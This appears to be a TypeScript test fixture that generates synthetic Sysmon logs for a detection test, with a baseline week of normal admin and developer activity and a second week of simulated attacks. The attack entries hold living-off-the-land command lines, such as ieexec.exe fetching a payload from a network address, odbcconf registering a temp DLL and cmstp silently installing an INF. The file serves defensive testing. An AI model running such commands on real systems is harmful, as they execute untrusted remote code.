import { mkdirSync } from 'node:fs';
import { join } from 'node:path';
import { dnsQuery, networkConnect, processCreate, sysmonGuid, type ProcessSpec } from '../../bench/sysmon-events.js';
import { writeEvtxFile, type WriterEvent } from '../../src/formats/evtx/write-evtx.js';

/** An attack the site test expects to alert: which rule's utility, on which host, to where. */
export interface ExpectedAttack {
  readonly utility: string;
  readonly host: string;
  readonly destinationIp: string;
  readonly port: number;
}

const DAY = 86_400_000;
const WEEK1 = Date.parse('2026-11-02T00:00:00Z');
const WEEK2 = WEEK1 + 7 * DAY;
const iso = (ms: number) => new Date(ms).toISOString().replace(/\.(\d{3})Z$/, '.$11234Z');

const WORKSTATIONS = [
  ['WS01.corp.example', 'CORP\\alice'],
  ['WS02.corp.example', 'CORP\\bob'],
  ['WS03.corp.example', 'CORP\\carol'],
  ['WS04.corp.example', 'CORP\\dave'],
  ['WS05.corp.example', 'CORP\\erin'],
] as const;
const DEVS = [
  ['DEV01.corp.example', 'CORP\\dev_anna'],
  ['DEV02.corp.example', 'CORP\\dev_ben'],
] as const;
const ADMIN = ['ADM01.corp.example', 'CORP\\adm_frank'] as const;

/**
 * A small site's Sysmon logs, written with the project's EVTX writer: a week of known-good activity (BGInfo at
 * every logon fetching its config from a file server, developers' cdb pulling symbols, odbcconf talking to the
 * database vendor, an administrator's cmstp installing the VPN profile), then a week with the same activity
 * (new process ids, GUIDs and times, another vendor address in the same network) plus attacks by five of the
 * twelve utilities, one of them (odbcconf, same user and host as its known-good entry) to a new destination.
 */
export function writeSiteWeeks(dir: string): { baseline: string; attack: string; attacks: ExpectedAttack[]; normalPerWeek: number } {
  mkdirSync(join(dir, 'baseline'), { recursive: true });
  mkdirSync(join(dir, 'attack'), { recursive: true });
  let n = 1;
  const proc = (hostTag: number, image: string, commandLine: string, user: string, parent?: ProcessSpec): ProcessSpec => ({
    guid: sysmonGuid(hostTag, n++),
    pid: 1000 + ((n * 37) % 60000),
    image,
    commandLine,
    user,
    ...(parent !== undefined ? { parent } : {}),
  });
  const week = (start: number, second: boolean): { events: WriterEvent[]; normal: number } => {
    const events: WriterEvent[] = [];
    let normal = 0;
    for (let d = 0; d < 7; d++) {
      const day = start + d * DAY;
      if (d >= 5) continue; // nobody logs on at the weekend
      WORKSTATIONS.forEach(([host, user], i) => {
        const t = day + (8 * 60 + 3 + i * 4) * 60_000;
        const explorer = proc(i + 1, 'C:\\Windows\\explorer.exe', 'C:\\Windows\\Explorer.EXE', user);
        const bginfo = proc(i + 1, 'C:\\Tools\\Sysinternals\\Bginfo.exe', '"C:\\Tools\\Sysinternals\\Bginfo.exe" \\\\files.corp-example.net\\it\\bginfo\\corp.bgi /timer:0 /nolicprompt /silent', user, explorer);
        events.push(processCreate(iso(t), host, explorer), processCreate(iso(t + 20_000), host, bginfo));
        events.push(dnsQuery(iso(t + 21_000), host, bginfo, 'files.corp-example.net', ['198.51.100.20']));
        events.push(networkConnect(iso(t + 22_000), host, bginfo, '198.51.100.20', 445));
        normal++;
      });
      DEVS.forEach(([host, user], i) => {
        for (let k = 0; k < 1 + ((d + i) % 3); k++) {
          const t = day + (10 * 60 + 30 * k + 7 * i) * 60_000;
          const vs = proc(10 + i, 'C:\\Program Files\\Microsoft Visual Studio\\2022\\Professional\\Common7\\IDE\\devenv.exe', '"devenv.exe"', user);
          const cdb = proc(10 + i, 'C:\\Program Files (x86)\\Windows Kits\\10\\Debuggers\\x64\\cdb.exe', `cdb.exe -pv -p ${2000 + k * 13 + d} -c ".symfix;.reload;q"`, user, vs);
          events.push(processCreate(iso(t), host, cdb));
          events.push(networkConnect(iso(t + 3_000), host, cdb, '192.0.2.80', 443, { hostname: 'msdl.microsoft.com' }));
          normal++;
        }
      });
      {
        const [host, user] = WORKSTATIONS[2];
        const t = day + 14 * 3_600_000;
        const app = proc(3, 'C:\\Program Files\\VendorERP\\erp.exe', '"C:\\Program Files\\VendorERP\\erp.exe"', user);
        const odbc = proc(3, 'C:\\Windows\\System32\\odbcconf.exe', 'odbcconf.exe /a {CONFIGDSN "SQL Server" "DSN=VendorERP|SERVER=db.vendor-example.com"}', user, app);
        // The vendor's database answers from another address of its network in the second week.
        const ip = second && d % 2 === 1 ? '203.0.113.41' : '203.0.113.40';
        events.push(processCreate(iso(t), host, app), processCreate(iso(t + 5_000), host, odbc));
        events.push(dnsQuery(iso(t + 6_000), host, odbc, 'db.vendor-example.com', [ip]));
        events.push(networkConnect(iso(t + 7_000), host, odbc, ip, 1433));
        normal++;
      }
      if (d === 1 || d === 3) {
        const [host, user] = ADMIN;
        const t = day + 16 * 3_600_000;
        const cmd = proc(20, 'C:\\Windows\\System32\\cmd.exe', 'cmd.exe /c \\\\files.corp-example.net\\it\\vpn\\install.cmd', user);
        const cmstp = proc(20, 'C:\\Windows\\System32\\cmstp.exe', 'cmstp.exe /s /su \\\\files.corp-example.net\\it\\vpn\\corpvpn.inf', user, cmd);
        events.push(processCreate(iso(t), host, cmd), processCreate(iso(t + 2_000), host, cmstp));
        events.push(networkConnect(iso(t + 4_000), host, cmstp, '198.51.100.77', 443));
        normal++;
      }
    }
    return { events, normal };
  };

  const base = week(WEEK1, false);
  const second = week(WEEK2, true);
  const attacks: ExpectedAttack[] = [];
  const attack = (hostTag: number, host: string, user: string, image: string, commandLine: string, ip: string, port: number, at: number, domain?: string) => {
    const parent = proc(hostTag, 'C:\\Windows\\System32\\cmd.exe', `cmd.exe /c ${commandLine}`, user);
    const p = proc(hostTag, image, commandLine, user, parent);
    second.events.push(processCreate(iso(at), host, parent), processCreate(iso(at + 1_000), host, p));
    if (domain !== undefined) second.events.push(dnsQuery(iso(at + 2_000), host, p, domain, [ip]));
    second.events.push(networkConnect(iso(at + 3_000), host, p, ip, port));
    attacks.push({ utility: image.split('\\').pop() as string, host, destinationIp: ip, port });
  };
  // The known-good utility, same host and user as its entry, to a destination it never used.
  attack(3, 'WS03.corp.example', 'CORP\\carol', 'C:\\Windows\\System32\\odbcconf.exe', 'odbcconf.exe /s /a {REGSVR C:\\Users\\carol\\AppData\\Local\\Temp\\x.dll}', '192.0.2.66', 443, WEEK2 + 2 * DAY + 11 * 3_600_000);
  attack(2, 'WS02.corp.example', 'CORP\\bob', 'C:\\Windows\\System32\\xwizard.exe', 'xwizard.exe RunWizard {7940acf8-60ba-4213-a7c3-f3b400ee266d}', '192.0.2.150', 443, WEEK2 + 3 * DAY + 9 * 3_600_000, 'cdn-sync.example.org');
  attack(10, 'DEV01.corp.example', 'CORP\\dev_anna', 'C:\\Program Files\\dotnet\\sdk\\8.0.100\\Roslyn\\bincore\\csi.exe', 'csi.exe C:\\Users\\dev_anna\\Downloads\\build.csx', '192.0.2.151', 8443, WEEK2 + 3 * DAY + 15 * 3_600_000);
  attack(4, 'WS04.corp.example', 'CORP\\dave', 'C:\\Windows\\Microsoft.NET\\Framework\\v2.0.50727\\ieexec.exe', 'ieexec.exe http://203.0.113.200/payload.exe', '203.0.113.200', 80, WEEK2 + 4 * DAY + 10 * 3_600_000);
  // cmstp has a known-good entry (the administrator's VPN profile): this is another user, elsewhere.
  attack(5, 'WS05.corp.example', 'CORP\\erin', 'C:\\Windows\\System32\\cmstp.exe', 'cmstp.exe /ni /s C:\\Users\\erin\\AppData\\Local\\Temp\\svc.inf', '192.0.2.152', 443, WEEK2 + 4 * DAY + 13 * 3_600_000, 'update-check.example.net');

  const byTime = (a: WriterEvent, b: WriterEvent) => (a.time < b.time ? -1 : a.time > b.time ? 1 : 0);
  const baseline = join(dir, 'baseline', 'sysmon-week1.evtx');
  const attackFile = join(dir, 'attack', 'sysmon-week2.evtx');
  writeEvtxFile(baseline, base.events.sort(byTime));
  writeEvtxFile(attackFile, second.events.sort(byTime));
  return { baseline, attack: attackFile, attacks, normalPerWeek: base.normal };
}
